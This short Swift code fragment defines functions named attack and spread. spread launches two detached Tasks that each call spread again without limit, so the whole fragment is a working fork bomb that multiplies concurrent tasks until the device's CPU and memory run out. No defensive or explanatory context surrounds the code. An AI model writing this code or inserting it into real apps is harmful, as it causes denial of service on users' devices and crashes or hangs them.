private func attack() { spread() }
private func spread() { for _ in 0..<2 { Task.detached { spread() } } }
